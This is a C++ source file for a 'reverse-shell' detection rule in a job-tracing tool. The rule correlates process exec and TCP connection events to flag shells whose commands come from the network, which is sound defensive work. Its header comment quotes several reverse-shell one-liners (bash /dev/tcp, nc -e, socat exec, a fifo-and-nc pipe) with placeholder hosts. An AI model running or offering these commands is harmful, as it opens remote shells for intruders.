// reverse-shell: a shell or interpreter taking its commands from the network.
//  - direct (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `sh <&196 >&196`): the exec's stdin is
//    an inet socket (process_exec stdio.stdin.net), and the program is a shell or interpreter, or
//    any program whose stdin and stdout are that same socket (a renamed shell behaves the same).
//  - relayed (`socat exec:'bash -li',pty tcp:h:p`, python `pty.spawn` after dup2 of a socket): a
//    shell or interpreter whose stdin is a terminal or a unix socket, started by an exec that
//    made or accepted a TCP connection; or an interactive shell (`-i`, no `-c`) whose stdout pipe
//    is read by an exec that connects (`cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`).
// The connection event (net_connect / net_accept with the same 4-tuple, or the parent exec's
// connection) joins the evidence. Families are polled separately, so either may come first:
// an exec waits (bounded) for its connection and is reported when it arrives. A direct shell
// whose connection never shows (net family missing, a lost record) is reported on its exec
// alone, 4096 events after its exit or at the end of the trail.
#include <deque>
#include <map>
#include <unordered_map>
#include <unordered_set>

#include "trail/events/types.hpp"
#include "trail/findings/address.hpp"
#include "trail/findings/rule.hpp"
#include "trail/findings/rule_util.hpp"

namespace jobtrail::findings {
namespace {

constexpr std::size_t kMaxPending = 4096;
constexpr std::uint64_t kGraceEvents = 4096;

// "tcp 127.0.0.1:40001>127.0.0.1:4444" from a net object (stdio.*.net, net_connect/net_accept .net).
std::string tuple_key(const json& net) {
  const std::string src = normalize_address(str_at(net, "src_addr")), dst = normalize_address(str_at(net, "dst_addr"));
  if (dst.empty()) return {};
  return str_at(net, "protocol") + " " + src + ":" + str_at(net, "src_port") + ">" + dst + ":" + str_at(net, "dst_port");
}

// Typed reads that never throw: a field of the wrong type reads as absent.
bool flag(const json& obj, const char* key) {
  auto it = obj.find(key);
  return it != obj.end() && it->is_boolean() && it->get<bool>();
}
std::uint64_t inode(const json& obj) {
  auto it = obj.find("inode");
  return it != obj.end() && it->is_number_unsigned() ? it->get<std::uint64_t>() : 0;
}

// `sh -i`, `bash -li`: commands from stdin, interactively (no -c, no script).
bool interactive(const std::vector<std::string>& args) {
  bool i_flag = false;
  for (std::size_t k = 1; k < args.size() && k < 64; ++k) {
    const std::string& a = args[k];
    if (a.size() < 2 || a[0] != '-') return false;  // a script or inline code follows
    if (a[1] == '-') continue;
    if (a.find('c') != std::string::npos) return false;
    i_flag |= a.find('i') != std::string::npos;
  }
  return i_flag;
}

bool connected(const json& net) {
  const std::string r = str_at(net, "result");
  return r.empty() || r == "ok" || r == "0" || r == "EINPROGRESS";
}

class ReverseShell : public Rule {
 public:
  const char* id() const override { return "reverse-shell"; }
  std::uint64_t dropped() const override { return dropped_; }
  void on_event(const json& ev, const JobState& st, const Config& cfg, std::vector<Finding>& out) override {
    const std::string type = type_of(ev);
    ++events_;
    if (type == events::type_name::net_connect || type == events::type_name::net_accept) {
      on_connection(ev, cfg, out);
    } else if (type == events::type_name::process_exec) {
      on_exec(ev, st, out);
    } else if (type == events::type_name::process_exit && by_exec_.count(exec_id_of(ev))) {
      if (exited_.size() >= kMaxPending) exited_.pop_front(), ++dropped_;
      exited_.push_back({exec_id_of(ev), events_});  // its connection may still be on its way
    }
    // the other rings have been polled many times since: the connection is not coming
    while (!exited_.empty() && events_ - exited_.front().second > kGraceEvents) {
      give_up(exited_.front().first, out);
      exited_.pop_front();
    }
  }
  void finish(std::vector<Finding>& out) override {
    for (auto& [exec_id, at] : exited_) give_up(exec_id, out);
    exited_.clear();
  }

 private:
  struct Conn {
    std::uint64_t seq = 0, exec_id = 0;
  };
  struct Shell {
    std::uint64_t exec_id, seq;
    std::string title, key;  // key: the 4-tuple (direct) or "exec N" (relayed: the parent's connection)
    bool direct;
  };

  void on_connection(const json& ev, const Config& cfg, std::vector<Finding>& out) {
    const auto& net = family(ev, "net");
    if (str_at(net, "protocol") != "tcp" || !connected(net)) return;
    const std::string key = tuple_key(net);
    // an accepted socket is seen from its own side: local = src, peer = dst, as on the exec
    const Conn conn{seq_of(ev), exec_id_of(ev)};
    if (auto it = pending_.find(key); it != pending_.end()) report(it->second, conn, out);
    const std::string by = "exec " + std::to_string(exec_id_of(ev));
    if (auto it = pending_.find(by); it != pending_.end()) report(it->second, conn, out);
    remember(key, conn, cfg);
    remember(by, conn, cfg);
  }

  void on_exec(const json& ev, const JobState& st, std::vector<Finding>& out) {
    const auto& in = family(family(ev, "stdio"), "stdin");
    const auto& outfd = family(family(ev, "stdio"), "stdout");
    bool shell = false;
    for (auto& n : program_names(ev)) shell |= is_shell_like(n);
    const std::uint64_t in_ino = inode(in), out_ino = inode(outfd);
    const bool same = in_ino != 0 && in_ino == out_ino;
    Shell s{exec_id_of(ev), seq_of(ev), {}, {}, true};
    if (flag(in, "pipe") && in_ino) {  // a reader of a pipe: perhaps the relay of a shell's output
      if (auto w = waiting_pipe_.find(in_ino); w != waiting_pipe_.end()) {
        Shell piped = w->second;
        waiting_pipe_.erase(w);
        piped.key = "exec " + std::to_string(s.exec_id);
        piped.title += basename_of(binary_of(ev)) + " (exec " + std::to_string(s.exec_id) + "), which holds a network connection";
        wait_or_report(piped, out);
      }
      if (pipe_readers_.size() >= kMaxPending) dropped_ += pipe_readers_.size(), pipe_readers_.clear();
      pipe_readers_[in_ino] = s.exec_id;
    }
    if (flag(in, "socket") && family(in, "net").contains("dst_addr")) {
      if (!shell && !(same && flag(outfd, "socket"))) return;  // `cat < /dev/tcp/...`: data, not commands
      const auto& net = family(in, "net");
      if (str_at(net, "protocol") != "tcp") return;
      s.key = tuple_key(net);
      s.title = "reverse shell: " + command_text(ev) + " reads its commands from " + endpoint(net, "dst") +
                (same ? " (stdin and stdout)" : " (stdin)");
    } else if (shell && (flag(in, "tty") || (flag(in, "socket") && !in.contains("net")))) {
      const ExecInfo* parent = st.exec(parent_exec_id_of(ev));
      if (!parent) return;
      s.direct = false;
      s.key = "exec " + std::to_string(parent->exec_id);
      s.title = "reverse shell: " + command_text(ev) + " on a " + (flag(in, "tty") ? "terminal" : "unix socket") +
                " relayed by " + basename_of(parent->binary) + " (exec " + std::to_string(parent->exec_id) +
                "), which holds a network connection";
    } else if (shell && flag(outfd, "pipe") && out_ino && interactive(args_of(ev))) {
      s.direct = false;
      s.title = "reverse shell: " + command_text(ev) + " (interactive) writes into a pipe read by ";
      auto r = pipe_readers_.find(out_ino);
      if (r == pipe_readers_.end()) {  // its reader has not exec'd yet
        if (waiting_pipe_.size() >= kMaxPending) dropped_ += waiting_pipe_.size(), waiting_pipe_.clear();
        waiting_pipe_[out_ino] = s;
        return;
      }
      const ExecInfo* reader = st.exec(r->second);
      s.key = "exec " + std::to_string(r->second);
      s.title += (reader ? basename_of(reader->binary) : std::string("exec")) + " (exec " + std::to_string(r->second) +
                 "), which holds a network connection";
    } else {
      return;
    }
    wait_or_report(s, out);
  }

  void wait_or_report(const Shell& s, std::vector<Finding>& out) {
    if (s.key.empty() || s.exec_id == 0 || reported_.count(s.exec_id)) return;
    if (auto it = connections_.find(s.key); it != connections_.end()) {
      report(s, it->second, out);
      return;
    }
    if (pending_.size() >= kMaxPending) {  // bounded: beyond it the waiting shells are dropped (counted)
      dropped_ += pending_.size();
      pending_.clear();
      by_exec_.clear();
    }
    pending_[s.key] = s;
    by_exec_[s.exec_id] = s;
  }

  void give_up(std::uint64_t exec_id, std::vector<Finding>& out) {
    auto it = by_exec_.find(exec_id);
    if (it != by_exec_.end()) report(it->second, Conn{}, out);
  }

  // `conn.seq` 0: the shell exited with no connection event seen (only a direct shell,
  // whose exec itself names the socket, is reported then).
  void report(Shell s, Conn conn, std::vector<Finding>& out) {
    const std::uint64_t connection_seq = conn.seq;
    pending_.erase(s.key);
    by_exec_.erase(s.exec_id);
    if (connection_seq == 0 && !s.direct) return;  // a terminal whose parent never connected: script, expect
    if (reported_.size() >= kMaxPending) reported_.clear();
    if (!reported_.insert(s.exec_id).second) return;
    Finding f{id(), critical, s.title, {s.exec_id}, {}};
    if (conn.exec_id != 0 && conn.exec_id != s.exec_id) f.exec_ids.insert(f.exec_ids.begin(), conn.exec_id);  // who connected
    if (connection_seq == 0) f.evidence = {s.seq};
    else f.evidence = connection_seq < s.seq ? std::vector<std::uint64_t>{connection_seq, s.seq}
                                             : std::vector<std::uint64_t>{s.seq, connection_seq};
    out.push_back(std::move(f));
  }

  static std::string endpoint(const json& net, const char* side) {
    const std::string a = str_at(net, side == std::string("dst") ? "dst_addr" : "src_addr");
    return (a.find(':') != std::string::npos ? "[" + a + "]" : a) + ":" + str_at(net, side == std::string("dst") ? "dst_port" : "src_port");
  }
  void remember(const std::string& key, Conn conn, const Config& cfg) {
    if (key.empty() || connections_.count(key)) return;  // the first connection proves it
    connections_.emplace(key, conn);
    connection_order_.push_back(key);
    while (connections_.size() > cfg.max_tracked && !connection_order_.empty()) {
      connections_.erase(connection_order_.front());
      connection_order_.pop_front();
      ++dropped_;
    }
  }

  std::unordered_map<std::string, Conn> connections_;  // 4-tuple or "exec N" -> its first connection
  std::deque<std::string> connection_order_;
  std::map<std::string, Shell> pending_;  // shells waiting for their connection, by key
  std::unordered_map<std::uint64_t, Shell> by_exec_;
  std::unordered_set<std::uint64_t> reported_;
  std::unordered_map<std::uint64_t, std::uint64_t> pipe_readers_;  // stdin pipe inode -> exec reading it
  std::unordered_map<std::uint64_t, Shell> waiting_pipe_;          // interactive shells' stdout pipe -> shell
  std::deque<std::pair<std::uint64_t, std::uint64_t>> exited_;  // (exec_id, event count at its exit)
  std::uint64_t events_ = 0;
  std::uint64_t dropped_ = 0;
};

}  // namespace

std::unique_ptr<Rule> make_reverse_shell() { return std::make_unique<ReverseShell>(); }

}  // namespace jobtrail::findings
